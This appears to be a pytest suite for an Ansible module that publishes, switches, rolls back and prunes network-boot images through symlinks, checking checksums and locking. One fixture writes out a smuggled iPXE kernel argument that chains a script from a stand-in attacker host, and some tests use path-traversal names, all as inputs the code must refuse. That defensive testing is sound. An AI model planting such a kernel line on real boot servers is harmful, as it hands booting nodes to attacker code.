"""bootlink: publish, atomic switch, rollback, retention, removal, lock and check mode, on real files.

Everything here runs against a real directory tree (tmp_path); the loop-mounted full disk, the
read-only boot root and the qemu PXE boot are in tests/integration/test_deploy*.py.
"""

from __future__ import annotations

import fcntl
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot

from ansible_collections.hpc.stateless.plugins.module_utils._contract.names import ArtifactError
from ansible_collections.hpc.stateless.plugins.module_utils._contract.sums import read_sums
from ansible_collections.hpc.stateless.plugins.module_utils._deploy.bootlink import (
    LOCK_NAME,
    BootlinkError,
    BootTree,
    LockBusyError,
    apply_state,
    deploy_lock,
    find_packed,
    load_packed,
    switch,
)


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "tftp"


def deploy(root: Path, src: Path | None = None, **params) -> dict:
    check_mode = params.pop("check_mode", False)
    base = {"boot_root": str(root), "image": "compute", "state": "switched", "keep": 3, "lock_timeout": 0}
    if src is not None:
        base["src"] = str(src)
    base.update(params)
    return apply_state(base, check_mode=check_mode)


def served(root: Path, name: str = "vmlinuz", image: str = "compute") -> bytes:
    return (root / image / name).read_bytes()


# --------------------------------------------------------------------------- publish and switch


def test_first_deploy_publishes_and_serves_through_relative_links(out, root):
    src = make_pack(out, version="v1")
    result = deploy(root, src)

    assert result["changed"] and result["published"] and result["switched"]
    assert result["current"] == "v1" and result["old_current"] is None and result["previous"] is None
    assert os.readlink(root / "compute") == "images/compute/v1"
    assert os.readlink(root / "images/compute/v1/initrd") == "compute.cpio.zst"
    assert served(root) == b"KERNEL v1"
    assert served(root, "initrd") == b"CPIO v1"
    assert result["source"] == str(src)
    # The published SHA256SUMS lists exactly the published files and passes the real sha256sum.
    check = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=root / "images/compute/v1",
                           capture_output=True, text=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr
    assert set(read_sums(str(root / "images/compute/v1/SHA256SUMS"))) == {"vmlinuz", "compute.cpio.zst", "manifest.json"}


def test_second_run_changes_nothing(out, root):
    src = make_pack(out, version="v1")
    deploy(root, src)
    before = tree_snapshot(root)
    result = deploy(root, src)
    assert not result["changed"] and not result["published"] and not result["switched"]
    assert tree_snapshot(root) == before


def test_switch_to_new_version_keeps_previous_as_rollback_target(out, root):
    deploy(root, make_pack(out, version="v1"))
    result = deploy(root, make_pack(out, version="v2"))

    assert result["old_current"] == "v1" and result["current"] == "v2" and result["previous"] == "v1"
    assert os.readlink(root / "images/compute/previous") == "v1"
    assert served(root) == b"KERNEL v2"
    assert "compute -> images/compute/v1" in result["diff"]["before"]
    assert "compute -> images/compute/v2" in result["diff"]["after"]
    assert "previous -> v1" in result["diff"]["after"]


def test_image_directory_src_picks_the_newest_pack(out, root):
    make_pack(out, version="old", created="2026-01-01T00:00:00Z")
    make_pack(out, version="new", created="2026-03-01T00:00:00Z")
    make_pack(out, version="mid", created="2026-02-01T00:00:00Z")
    assert find_packed(str(out / "compute"), None).endswith("/new")
    assert deploy(root, out / "compute")["current"] == "new"
    assert deploy(root, out / "compute", version="mid", allow_downgrade=True)["current"] == "mid"


@pytest.mark.parametrize("check_mode", [True, False], ids=["check", "real"])
def test_a_pack_built_before_the_served_one_is_a_downgrade_refused_unless_asked_for(out, root, check_mode):
    """The served version's pack is gone from the pack output: the newest left is older. Serving it is said and
    asked for (allow_downgrade), never done on its own; the boot tree stays as it was."""
    deploy(root, make_pack(out, version="v1", created="2026-01-01T00:00:00Z"))
    deploy(root, make_pack(out, version="v2", created="2026-03-01T00:00:00Z"))
    (out / "compute" / "v2").rename(out / "v2-lost")
    before = tree_snapshot(root)
    with pytest.raises(BootlinkError) as refused:
        deploy(root, out / "compute", check_mode=check_mode)
    assert str(refused.value).startswith(
        f"image 'compute': 'v1' (the newest pack in {out / 'compute'}; the served version's pack is not there) was "
        "built 2026-01-01T00:00:00Z, before the served 'v2' (built 2026-03-01T00:00:00Z): serving it is a downgrade. "
        "To roll back on purpose, ask for it (hpc_stateless_deploy_downgrade: true"), refused.value
    assert tree_snapshot(root) == before
    with pytest.raises(BootlinkError, match="'v1' was built 2026-01-01T00:00:00Z, before the served 'v2'"):
        deploy(root, out / "compute", version="v1", state="present")  # named, but not asked for

    result = deploy(root, out / "compute", allow_downgrade=True, check_mode=check_mode)
    assert result["current"] == "v1" and result["downgrade"] == {
        "from": "v2", "from_built": "2026-03-01T00:00:00Z", "to": "v1", "to_built": "2026-01-01T00:00:00Z"}
    assert result["warnings"] == ["image 'compute': downgrading from 'v2' (built 2026-03-01T00:00:00Z) to 'v1' "
                                  "(built 2026-01-01T00:00:00Z), as allow_downgrade asks"]


def test_a_newer_pack_and_the_served_one_again_are_no_downgrade(out, root):
    deploy(root, make_pack(out, version="v1", created="2026-01-01T00:00:00Z"))
    assert "downgrade" not in deploy(root, out / "compute")  # the served one itself
    result = deploy(root, make_pack(out, version="v2", created="2026-01-01T00:00:00Z"))  # the same build, repacked
    assert result["current"] == "v2" and "downgrade" not in result
    assert deploy(root, state="rollback")["current"] == "v1"  # a rollback is a downgrade by name


def test_squashfs_format_links_initrd_and_squashfs(out, root):
    deploy(root, make_pack(out, version="v1", squashfs=True), format="squashfs")
    version = root / "images/compute/v1"
    assert os.readlink(version / "initrd") == "initrd.img"
    assert os.readlink(version / "rootfs.squashfs") == "compute.squashfs"
    assert not (version / "compute.cpio.zst").exists()  # only the chosen format is published
    assert served(root, "rootfs.squashfs") == b"SQUASHFS v1"


def test_format_not_packed_is_refused(out, root):
    with pytest.raises(BootlinkError, match=r"format 'cpio.gz' was not packed .*packed: cpio.zst"):
        deploy(root, make_pack(out, version="v1"), format="cpio.gz")
    assert not root.exists() or not (root / "compute").exists()


# --------------------------------------------------------------------------- refusals leave the tree as it was


def test_checksum_mismatch_refuses_and_leaves_old_links(out, root):
    deploy(root, make_pack(out, version="v1"))
    bad = make_pack(out, version="v2")
    (bad / "compute.cpio.zst").write_bytes(b"CPIO v2 corrupted in transit")
    before = tree_snapshot(root)

    with pytest.raises(BootlinkError, match=r"checksum mismatch .*compute\.cpio\.zst.*links are unchanged"):
        deploy(root, bad)

    assert tree_snapshot(root) == before
    assert served(root) == b"KERNEL v1"
    assert not [p for p in (root / "images/compute").iterdir() if p.name.startswith(".")]


def test_manifest_and_sums_disagreeing_is_refused(out, root):
    src = make_pack(out, version="v1")
    rewrite_manifest(src, lambda manifest: manifest["artifacts"][0].update(sha256="f" * 64), relist=True)
    with pytest.raises(BootlinkError, match="manifest.json and SHA256SUMS disagree"):
        deploy(root, src)
    assert not (root / "images/compute/v1").exists()


# --------------------------------------------------------------------------- only checked bytes are used


def inject_kernel_args(manifest: dict) -> None:
    """What an attacker with write access to the pack output adds: a kernel line that chains a foreign iPXE script."""
    manifest["initrd"] = {"file": "initrd.img", "kernel_args": "rd.live.image && chain http://evil.invalid/x.ipxe ||"}
    manifest["verification"] = {"status": "passed"}


@pytest.mark.parametrize("check_mode", [False, True])
def test_manifest_edited_in_the_pack_output_of_a_published_version_is_refused(out, root, check_mode):
    """The version is already published: the edited manifest.json is refused, not handed on as 'the same release'."""
    src = make_pack(out, version="v1", squashfs=True)
    deploy(root, src, format="squashfs")
    rewrite_manifest(src, inject_kernel_args)
    before = tree_snapshot(root)
    with pytest.raises(BootlinkError, match=rf"{src}/manifest.json does not match its checksum in SHA256SUMS .*: it was "
                                            r"changed after the image was packed; nothing was published and the boot "
                                            r"tree is unchanged: pack the image again"):
        deploy(root, src, format="squashfs", check_mode=check_mode)
    assert tree_snapshot(root) == before


def test_manifest_is_checked_before_it_is_parsed(out, root):
    src = make_pack(out, version="v1")
    (src / "manifest.json").write_text('{"image": "../../etc", "version": ')  # neither parsed nor used
    with pytest.raises(BootlinkError, match=r"manifest.json does not match its checksum"):
        load_packed(str(src))
    with pytest.raises(BootlinkError, match=r"manifest.json does not match its checksum"):
        deploy(root, src)
    assert not (root / "images").exists()


def test_sha256sums_that_does_not_list_the_manifest_is_refused(out, root):
    src = make_pack(out, version="v1")
    lines = [line for line in (src / "SHA256SUMS").read_text().splitlines() if not line.endswith("  manifest.json")]
    (src / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    with pytest.raises(BootlinkError, match=r"SHA256SUMS does not list manifest.json, so nothing vouches for the manifest"):
        deploy(root, src)
    assert not (root / "images").exists()


def test_the_published_manifest_is_the_checked_bytes_and_the_result_names_it(out, root):
    src = make_pack(out, version="v1")
    rewrite_manifest(src, lambda manifest: manifest.update(verification={"status": "passed"}), relist=True)
    predicted = deploy(root, src, check_mode=True)
    assert predicted["manifest"] == str(src / "manifest.json")  # not published yet: the pack output's, checked
    assert predicted["verification"] == {"status": "passed"}
    result = deploy(root, src)
    published = root / "images/compute/v1/manifest.json"
    assert result["manifest"] == str(published) and result["verification"] == {"status": "passed"}
    assert published.read_bytes() == (src / "manifest.json").read_bytes()
    assert deploy(root, src, check_mode=True)["manifest"] == str(published)


@pytest.mark.parametrize("name", ["manifest.json", "vmlinuz", "compute.cpio.zst"])
@pytest.mark.parametrize("check_mode", [False, True])
def test_published_copy_changed_after_publishing_is_refused_naming_file_and_version(out, root, name, check_mode):
    src = make_pack(out, version="v1")
    deploy(root, src)
    published = root / "images/compute/v1" / name
    published.write_bytes(published.read_bytes().replace(b"v1", b"v6"))
    before = tree_snapshot(root)
    with pytest.raises(BootlinkError, match=rf"the published copy of image 'compute' version 'v1' in .*images/compute/v1 "
                                            rf"does not match its SHA256SUMS: {re.escape(name)} \(SHA256SUMS [0-9a-f]{{12}}"
                                            r"\.\.\., published [0-9a-f]{12}\.\.\.\); it was changed after it was "
                                            r"published\. Nothing was changed: .*remove it \(state=absent\)"):
        deploy(root, src, check_mode=check_mode)
    assert tree_snapshot(root) == before


def test_published_initrd_link_pointed_elsewhere_is_refused_on_a_redeploy(out, root):
    src = make_pack(out, version="v1")
    deploy(root, src)
    (root / "images/compute/v1/initrd").unlink()
    (root / "images/compute/v1/initrd").symlink_to("vmlinuz")
    before = tree_snapshot(root)
    with pytest.raises(BootlinkError, match=r"version 'v1' .* does not match its SHA256SUMS: initrd \(points at vmlinuz, "
                                            r"not compute\.cpio\.zst\); it was changed after it was published"):
        deploy(root, src)
    assert tree_snapshot(root) == before


@pytest.mark.parametrize("how", ["rollback", "switch-by-version"])
@pytest.mark.parametrize("check_mode", [False, True])
def test_rollback_or_switch_to_a_published_version_changed_since_is_refused(out, root, how, check_mode):
    deploy(root, make_pack(out, version="v1"))
    deploy(root, make_pack(out, version="v2"))
    (root / "images/compute/v1/compute.cpio.zst").write_bytes(b"CPIO v1 with something else")
    before = tree_snapshot(root)
    params = {"state": "rollback"} if how == "rollback" else {"version": "v1"}
    with pytest.raises(BootlinkError, match=r"published copy of image 'compute' version 'v1' .*compute\.cpio\.zst"):
        deploy(root, None, check_mode=check_mode, **params)
    assert tree_snapshot(root) == before
    assert served(root) == b"KERNEL v2"


def test_rollback_to_a_version_whose_initrd_link_was_repointed_is_refused(out, root):
    deploy(root, make_pack(out, version="v1"))
    deploy(root, make_pack(out, version="v2"))
    version = root / "images/compute/v1"
    (version / "extra.img").write_bytes(b"unlisted")
    (version / "initrd").unlink()
    (version / "initrd").symlink_to("extra.img")
    before = tree_snapshot(root)
    with pytest.raises(BootlinkError, match=r"v1/SHA256SUMS does not list extra.img, so nothing vouches for what nodes "
                                            r"would boot from version 'v1'"):
        deploy(root, None, state="rollback")
    assert tree_snapshot(root) == before


def test_missing_checksum_line_is_refused(out, root):
    src = make_pack(out, version="v1")
    lines = [line for line in (src / "SHA256SUMS").read_text().splitlines() if "vmlinuz" not in line]
    (src / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    with pytest.raises(BootlinkError, match=r"SHA256SUMS: no checksum for vmlinuz"):
        deploy(root, src)


def test_republishing_a_version_with_other_content_is_refused(out, root, tmp_path):
    deploy(root, make_pack(out, version="v1"))
    other = make_pack(tmp_path / "other", version="v1", payload=b" rebuilt")
    with pytest.raises(BootlinkError, match="already holds a different build of version 'v1'"):
        deploy(root, other)
    assert served(root) == b"KERNEL v1"


def test_wrong_image_in_src_is_refused(out, root):
    src = make_pack(out, image="login", version="v1")
    with pytest.raises(BootlinkError, match="holds image 'login', not 'compute'"):
        deploy(root, src)


@pytest.mark.parametrize("version", ["../evil", ".hidden", "previous", "a/b", ""])
def test_bad_version_names_are_refused(root, version):
    with pytest.raises(ArtifactError, match=f"version {version!r} is not a valid name"):
        deploy(root, None, version=version)


def test_served_path_that_is_not_a_link_is_refused(out, root):
    (root / "compute").mkdir(parents=True)
    with pytest.raises(BootlinkError, match=r"compute exists and is not a symlink.*move it away"):
        deploy(root, make_pack(out, version="v1"))
    assert (root / "compute").is_dir()


def test_unwritable_boot_root_path_is_named(tmp_path, out):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    with pytest.raises(BootlinkError, match="is not a directory; choose another boot root"):
        deploy(blocker / "tftp", make_pack(out, version="v1"))


# --------------------------------------------------------------------------- rollback, retention, removal


def test_rollback_flips_between_current_and_previous(out, root):
    deploy(root, make_pack(out, version="v1"))
    deploy(root, make_pack(out, version="v2"))

    back = deploy(root, None, state="rollback")
    assert back["changed"] and back["version"] == "v1" and back["current"] == "v1" and back["previous"] == "v2"
    assert served(root) == b"KERNEL v1"

    again = deploy(root, None, state="rollback")
    assert again["current"] == "v2" and served(root) == b"KERNEL v2"


def test_rollback_without_previous_is_refused(out, root):
    deploy(root, make_pack(out, version="v1"))
    with pytest.raises(BootlinkError, match="no previous version to roll back to .*current: v1"):
        deploy(root, None, state="rollback")


def test_retention_keeps_newest_and_never_the_linked(out, root):
    for index in range(1, 6):
        result = deploy(root, make_pack(out, version=f"v{index}"), keep=2)
        time.sleep(0.01)  # distinct publish times
    assert result["removed"] == ["v3"]
    assert sorted(p.name for p in (root / "images/compute").iterdir()) == ["previous", "v4", "v5"]
    # After a rollback to v4, publishing v6 must keep v4 (served) and v5 (previous) too.
    deploy(root, None, state="rollback")
    result = deploy(root, make_pack(out, version="v6"), state="present", keep=1)
    assert result["removed"] == [] and result["current"] == "v4"
    assert sorted(p.name for p in (root / "images/compute").iterdir()) == ["previous", "v4", "v5", "v6"]


def test_absent_removes_only_unlinked_versions(out, root):
    for version in ("v1", "v2", "v3"):
        deploy(root, make_pack(out, version=version))
        time.sleep(0.01)
    with pytest.raises(BootlinkError, match=r"'v3' of image 'compute' is in use: .*compute points at it"):
        deploy(root, None, state="absent", version="v3")
    with pytest.raises(BootlinkError, match=r"'v2' .* is in use: .*previous points at it"):
        deploy(root, None, state="absent", version="v2")

    result = deploy(root, None, state="absent", version="v1")
    assert result["changed"] and result["removed"] == ["v1"]
    assert not (root / "images/compute/v1").exists()
    assert not deploy(root, None, state="absent", version="v1")["changed"]


def test_switch_to_unpublished_version_is_refused(out, root):
    deploy(root, make_pack(out, version="v1"))
    with pytest.raises(BootlinkError, match=r"no published version 'v9' .*published: v1"):
        deploy(root, None, version="v9")


# --------------------------------------------------------------------------- check mode


@pytest.mark.parametrize("scenario", ["first", "new-version", "rollback", "absent", "retention"])
def test_check_mode_predicts_the_real_run_and_writes_nothing(out, root, scenario):
    setup = {"first": [], "new-version": ["v1"], "rollback": ["v1", "v2"], "absent": ["v1", "v2", "v3"],
             "retention": ["v1", "v2", "v3"]}[scenario]
    for version in setup:
        deploy(root, make_pack(out, version=version))
        time.sleep(0.01)
    params = {"first": lambda: {"src": make_pack(out, version="v1")},
              "new-version": lambda: {"src": make_pack(out, version="v2")},
              "rollback": lambda: {"state": "rollback"},
              "absent": lambda: {"state": "absent", "version": "v1"},
              "retention": lambda: {"src": make_pack(out, version="v4"), "keep": 2}}[scenario]()
    src = params.pop("src", None)
    before = tree_snapshot(root)

    predicted = deploy(root, src, check_mode=True, **params)
    assert tree_snapshot(root) == before
    actual = deploy(root, src, **params)

    for key in ("changed", "published", "switched", "removed", "current", "previous", "version"):
        assert predicted[key] == actual[key], key
    assert predicted["diff"] == actual["diff"]


def test_check_mode_finds_a_corrupt_pack(out, root):
    bad = make_pack(out, version="v1")
    (bad / "vmlinuz").write_bytes(b"truncated")
    with pytest.raises(BootlinkError, match="checksum mismatch"):
        deploy(root, bad, check_mode=True)
    assert not root.exists()


# --------------------------------------------------------------------------- lock and atomicity


def test_second_deploy_while_one_holds_the_lock_fails_clearly(out, root):
    deploy(root, make_pack(out, version="v1"))
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import fcntl, os, sys, time\n"
         f"fd = os.open({str(root / LOCK_NAME)!r}, os.O_RDWR)\n"
         "fcntl.flock(fd, fcntl.LOCK_EX)\n"
         "os.ftruncate(fd, 0); os.pwrite(fd, f'pid {os.getpid()} test deploy'.encode(), 0)\n"
         "print('locked', flush=True)\n"
         "time.sleep(30)\n"],
        stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        before = tree_snapshot(root)
        with pytest.raises(LockBusyError, match=rf"locked by another deploy \(pid {holder.pid} test deploy\)"):
            deploy(root, make_pack(out, version="v2"))
        assert tree_snapshot(root) == before
    finally:
        holder.kill()
        holder.wait()
    assert deploy(root, out / "compute" / "v2")["current"] == "v2"


def test_lock_waits_for_the_holder_within_lock_timeout(root):
    root.mkdir()
    released = threading.Event()

    def hold() -> None:
        with deploy_lock(str(root)):
            time.sleep(0.5)
        released.set()

    thread = threading.Thread(target=hold)
    thread.start()
    time.sleep(0.1)
    start = time.monotonic()
    heard = []
    with deploy_lock(str(root), timeout=10, on_wait=heard.append):
        assert released.is_set()
    assert time.monotonic() - start >= 0.3
    thread.join()
    # Said once, as the wait began, naming the tree and the holder's note (pid, purpose, since).
    assert len(heard) == 1 and heard[0].startswith(f"waiting for the boot tree {root}, held by pid {os.getpid()} deploy since ")
    with deploy_lock(str(root), timeout=10, on_wait=heard.append):
        assert len(heard) == 1, "a free lock is taken without a word"


def test_readers_never_see_a_missing_or_mixed_boot_pair_during_switches(out, root):
    """A TFTP server resolving <image>/vmlinuz and <image>/initrd while versions flip, many times."""
    deploy(root, make_pack(out, version="v1"))
    deploy(root, make_pack(out, version="v2"))
    problems: list[str] = []
    stop = threading.Event()

    def reader() -> None:
        while not stop.is_set():
            try:
                directory = os.path.realpath(root / "compute")  # one resolution, as one boot does per file
                kernel = Path(directory, "vmlinuz").read_bytes()
                initrd = Path(directory, "initrd").read_bytes()
                if kernel.split()[-1] != initrd.split()[-1]:
                    problems.append(f"mixed pair {kernel!r} {initrd!r}")
                (root / "compute" / "vmlinuz").read_bytes()  # through the link: never missing
            except OSError as exc:
                problems.append(repr(exc))

    threads = [threading.Thread(target=reader), threading.Thread(target=reader)]
    for thread in threads:
        thread.start()
    tree = BootTree(str(root))
    for index in range(300):
        switch(tree, "compute", "v1" if index % 2 else "v2")
    stop.set()
    for thread in threads:
        thread.join()
    assert problems == []


def test_interrupted_publish_leftovers_are_cleaned_on_the_next_run(out, root):
    deploy(root, make_pack(out, version="v1"))
    leftover = root / "images/compute/.publish-v2-deadbeef"
    leftover.mkdir()
    (leftover / "vmlinuz").write_bytes(b"half")
    result = deploy(root, make_pack(out, version="v2"))
    assert str(leftover) in result["cleaned"]
    assert not leftover.exists() and served(root) == b"KERNEL v2"


def test_load_packed_reports_missing_manifest(tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(ArtifactError, match=r"empty/manifest.json: no manifest.json; is this a version directory"):
        load_packed(str(tmp_path / "empty"))


def test_lock_file_names_the_holder(root):
    root.mkdir()
    with deploy_lock(str(root), purpose="bootlink switched compute"):
        text = (root / LOCK_NAME).read_text()
        assert text.startswith(f"pid {os.getpid()} bootlink switched compute since ")
        fd = os.open(root / LOCK_NAME, os.O_RDWR)
        try:
            with pytest.raises(BlockingIOError):
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        finally:
            os.close(fd)
